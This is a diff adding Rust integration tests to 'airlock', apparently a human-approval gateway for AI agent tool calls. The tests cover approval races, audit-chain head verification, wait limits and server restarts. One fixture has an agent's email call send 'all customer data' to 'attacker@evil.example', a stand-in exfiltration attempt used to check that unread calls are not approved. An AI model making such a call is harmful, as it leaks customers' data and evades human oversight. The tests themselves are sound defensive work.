@@ -136,6 +136,38 @@ fn the_approval_loop_from_the_command_line() {
         stderr(&output)
     );
 
+    // The person reads the newest call; another arrives before they approve: --latest
+    // would approve the one nobody read, so with two pending it refuses (exit 1), names
+    // both, and approves nothing.
+    let output = server.client_as(&agent, &["call", "email.send", "--args", OUTSIDE_MAIL]);
+    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
+    let read = server.pending().remove(0);
+    let output = server.client(&["approvals", "show", "--latest"]);
+    assert!(stdout(&output).contains(&read), "{}", stdout(&output));
+    let unseen = r#"{"to":"attacker@evil.example","subject":"all customer data","body":"x"}"#;
+    let output = server.client_as(&agent, &["call", "email.send", "--args", unseen]);
+    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
+    let output = server.client(&["approvals", "approve", "--latest"]);
+    assert_eq!(output.status.code(), Some(1), "{}", stdout(&output));
+    let message = stderr(&output);
+    assert!(
+        message.contains("more than one approval is pending"),
+        "{message}"
+    );
+    assert!(message.contains(&read), "{message}");
+    let pending = server.pending();
+    assert_eq!(pending.len(), 2, "{pending:?}");
+    // By id it approves the one that was read.
+    let output = server.client(&["approvals", "approve", &read]);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let output = server.client(&["approvals", "reject", "--latest"]);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    assert!(
+        stdout(&output).contains("attacker@evil.example"),
+        "{}",
+        stdout(&output)
+    );
+
     // Agents never decide (403): exit 1.
     let output = server.client_as(&agent, &["call", "email.send", "--args", OUTSIDE_MAIL]);
     assert_eq!(output.status.code(), Some(1));
@@ -233,6 +265,35 @@ fn the_approval_loop_from_the_command_line() {
         stdout(&output)
     );
     assert_eq!(against(&export, "12").status.code(), Some(2));
+    // Online too: the server's chain must reach a head printed earlier (a chain whose
+    // newest records were deleted, head and all, verifies on its own otherwise).
+    let output = server.client(&["audit", "verify", "--head", &head]);
+    assert_eq!(
+        output.status.code(),
+        Some(0),
+        "{}{}",
+        stdout(&output),
+        stderr(&output)
+    );
+    let output = server.client(&["audit", "verify", "--head", &other]);
+    assert_eq!(output.status.code(), Some(1), "{}", stdout(&output));
+    assert!(
+        stdout(&output).contains("not the expected head"),
+        "{}",
+        stdout(&output)
+    );
+    let beyond = format!(
+        "{}:{}",
+        report["head"]["seq"].as_u64().unwrap() + 1000,
+        "0".repeat(64)
+    );
+    let output = server.client(&["audit", "verify", "--head", &beyond]);
+    assert_eq!(output.status.code(), Some(1), "{}", stdout(&output));
+    assert!(
+        stdout(&output).contains("missing from its end"),
+        "{}",
+        stdout(&output)
+    );
 
     let torn = &text[..text.trim_end().rfind('\n').unwrap() + 40];
     std::fs::write(&export, torn).unwrap();
@@ -305,6 +366,14 @@ fn refusals_and_connection_trouble_have_their_exit_codes() {
     // Bad --args is a usage error.
     let output = server.client(&["call", "x.y", "--args", "[1]"]);
     assert_eq!(output.status.code(), Some(2));
+    // So is a wait longer than the clock can count (it panicked: exit 101).
+    let output = server.client(&["call", "x.y", "--wait", "18446744073709551615"]);
+    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
+    assert!(
+        stderr(&output).contains("too long a wait"),
+        "{}",
+        stderr(&output)
+    );
 
     // Nobody listening: exit 2.
     drop(server);
@@ -325,6 +394,27 @@ fn refusals_and_connection_trouble_have_their_exit_codes() {
         "{}",
         stderr(&output)
     );
+}
+
+/// `airlock call --wait` outlives a restart of the server (G7 keeps the approval): its
+/// polls are sent again until the wait is over, and the approval made after the restart
+/// reaches it.
+#[test]
+fn a_waiting_call_outlives_a_restart_of_the_server() {
+    let work = tempfile::tempdir().unwrap();
+    let policy = work.path().join("policy.toml");
+    std::fs::write(&policy, POLICY).unwrap();
+    let mut server = Server::start(work.path(), &["--policy", policy.to_str().unwrap()]);
+    let agent = server.create_agent("scout");
+    let (mut caller, approval) = waiting_call(&server, &agent);
+    server.terminate();
+    server.restart();
+    let output = server.client(&["approvals", "approve", &approval]);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let status = wait_exit(&mut caller.0, Duration::from_secs(30));
+    let (out, err) = finished_output(&mut caller.0);
+    assert_eq!(status.code(), Some(0), "{out}{err}");
+    assert!(out.contains("approved"), "{out}");
 }
 
 /// An ambiguous call from the command line (DESIGN.md §11.8): redeemed, its outcome never
